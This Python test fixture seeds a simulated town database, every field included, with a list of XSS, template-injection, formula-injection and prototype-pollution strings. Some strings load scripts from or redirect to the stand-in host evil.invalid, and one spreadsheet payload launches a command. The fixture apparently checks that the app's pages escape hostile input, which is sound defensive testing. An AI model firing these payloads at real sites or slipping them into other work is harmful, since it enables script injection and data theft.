"""Texts that try to become script, markup, a link, a template or a formula, and a town that is made of them."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import islice, product

from shapely import LineString, Point, box, union_all

from geogrid.domain.cases.case import Case
from geogrid.domain.coverage.defect import Allowance
from geogrid.domain.grid import Area, Generation, Grid, Level
from geogrid.domain.people.account import Assignment, Capacity
from geogrid.domain.people.post import Post, Role
from geogrid.domain.register import Building, Estate, Line, LineKind, LineRank, Place, PlaceKind, Surface, SurfaceKind
from geogrid.store import Database, accounts, allowances, base_map, cases, generations, places, tokens
from tests.browser import town

HIT = "window.__hit=1"
ALONE = [
    "<script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>HIT</script>",
    "<img src=x onerror=HIT>",
    "<img src=//evil.invalid/pixel.png>",
    "<image href=x onerror=HIT>",
    "<svg onload=HIT>",
    "<svg/onload=HIT//",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
    "<body onload=HIT>",
    "<input autofocus onfocus=HIT>",
    "<details open ontoggle=HIT>x</details>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT>",
    "<iframe src=javascript:parent.HIT></iframe>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<object data=javascript:HIT></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<a href=javascript:HIT>open</a>",
    "<a href=//evil.invalid/ target=_blank>open</a>",
    "<form action=//evil.invalid/><button>go</button></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{background:url(//evil.invalid/x)}</style>",
    "<p style=background:url(//evil.invalid/x)>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<template><script>HIT</script></template>",
    "<marquee onstart=HIT>x</marquee>",
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    "java\tscript:HIT",
    "data:text/html,<script>HIT</script>",
    "vbscript:HIT",
    "//evil.invalid/",
    "${HIT}",
    "`${HIT}`",
    "`+(HIT)+`",
    "{{7*7}}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "#{HIT}",
    "<%= HIT %>",
    "{0.__class__} %(count)s %s",
    '","x":"<script>HIT</script>',
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\');HIT;//",
    "\\",
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#60;script&#62;HIT&#60;/script&#62;",
    "%3Cscript%3EHIT%3C/script%3E",
    "＜script＞HIT＜/script＞",
    "\u2028HIT\u2029",
    "\u202e\u2066<b>HIT</b>",
    "=HYPERLINK(\"//evil.invalid/\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*HIT",
    "__proto__",
    "constructor",
]  # fmt: skip
AROUND = [
    "{}",
    '"><!--x-->{}',
    "'><b x='{}",
    "</script>{}",
    "</textarea></title></style></noscript>{}",
    '" onmouseover="HIT" x="{}',
    "' onfocus='HIT' autofocus x='{}",
    "-->]]>{}",
]
OFF = 0.00002  # degrees that every other grid reaches over into the next
SIZE, COLUMNS = 0.002, 20


def payloads(count: int) -> list[str]:
    """Return so many: each alone, then each in every context."""
    texts = (around.replace("{}", alone) for around, alone in product(AROUND, ALONE))
    return list(islice((text.replace("HIT", HIT) for text in texts), count))


def build(database: Database, texts: list[str]) -> None:
    """Put a town into a migrated, empty database in which every text is one of these, each text in every field."""
    squares = [_square(n) for n in range(len(texts))]
    with database.writing() as session:
        generation = Generation(1, town.SINCE, simulated=True, source=texts[0])
        posts = [Post(code(n), Role.LEADER, text, text) for n, text in enumerate(texts)]
        generations.publish(session, generation, _areas(texts, squares), _grids(texts, squares), posts)
        base_map.replace_base_map(session, town.SINCE, *_around(texts, squares))
        places.add(session, _places(texts, squares), town.SINCE)
        cases.add(session, _cases(texts, squares))
        allowances.add(session, list(_allowances(texts, squares)), town.SINCE)
    _people(database, texts)


def _square(number: int):
    west, south = town.WEST + SIZE * (number % COLUMNS), town.SOUTH + SIZE * (number // COLUMNS)
    return box(west, south, west + SIZE, south + SIZE)


def code(number: int) -> str:
    return f"341002{number + 1:03d}001001"


def _areas(texts: list[str], squares: list) -> Iterator[Area]:
    yield Area("341002", " ".join(texts[:60]), Level.DISTRICT, None, union_all(squares))
    for number, (text, ground) in enumerate(zip(texts, squares, strict=True)):
        own = code(number)
        yield Area(own[:9] + "000", text, Level.STREET, "341002", ground)
        yield Area(own[:12], text, Level.COMMUNITY, own[:9] + "000", ground)


def _grids(texts: list[str], squares: list) -> list[Grid]:
    reaching = [box(*(s.bounds[:2]), s.bounds[2] + OFF * (n % 2), s.bounds[3]) for n, s in enumerate(squares)]
    return [Grid(code(n), text, code(n)[:12], 300, reaching[n]) for n, text in enumerate(texts)]


def _around(texts: list[str], squares: list):
    lines, waters, estates, buildings = [], [], [], []
    for number, (text, square) in enumerate(zip(texts, squares, strict=True)):
        x, y = square.centroid.x, square.centroid.y
        name = f"{number}{text}"
        lines.append(Line(text, LineKind.ROAD, LineRank.STREET, 9.0, LineString([(x, y), (x + 0.0005, y)])))
        waters.append(Surface(text, SurfaceKind.WATER, box(x, y, x + 0.0002, y + 0.0002)))
        estates.append(Estate(name, code(number)[:12], square.buffer(-0.0004)))
        buildings.append(Building(f"B{number}", name, text, 6, 24, box(x - 0.0003, y - 0.0003, x, y)))
    return lines, waters, estates, buildings


def _places(texts: list[str], squares: list) -> list[Place]:
    """Each address twice, so that the page also asks which is meant."""
    return [
        Place(f"{text}{place}-{n}", PlaceKind.HOUSE, text, None, square.centroid.x + place, square.centroid.y)
        for n, (text, square) in enumerate(zip(texts, squares, strict=True))
        for place in (0, 0.0003)
    ]


def _cases(texts: list[str], squares: list) -> list[Case]:
    def case(number: int, text: str) -> Case:
        at, when = squares[number].centroid, datetime(2026, 1, 2) + timedelta(hours=number)
        return Case(f"{text}{number}", text, when, at.x, at.y, text, code(number))

    return [case(number, text) for number, text in enumerate(texts)]


def _allowances(texts: list[str], squares: list) -> Iterator[Allowance]:
    """Of each four grids the first one's overlap is allowed; the others lie where nothing is wrong."""
    for number, (text, square) in enumerate(zip(texts, squares, strict=True)):
        east, south = square.bounds[2], square.centroid.y
        spot = Point(east, south) if number % 4 == 1 else square.centroid
        yield Allowance(f"{text}{number}", text, text, town.SINCE, spot.buffer(0.0015 if number % 4 == 1 else 0.0001))


def _people(database: Database, texts: list[str]) -> None:
    with database.writing() as session:
        now = time.time()
        for number, text in enumerate(texts):
            account = accounts.add(session, f"{number}{text}", text, "", now, must_change=False, demo=False)
            accounts.assign(session, account, [Assignment(Capacity.HANDLER, text, text)])


def give_tokens(database: Database, account: int, texts: list[str]) -> None:
    """Give an account a token of each name."""
    with database.writing() as session:
        for number, text in enumerate(texts):
            tokens.add(session, account, text, f"{number:064x}", 0, 2**31, may_write=False)
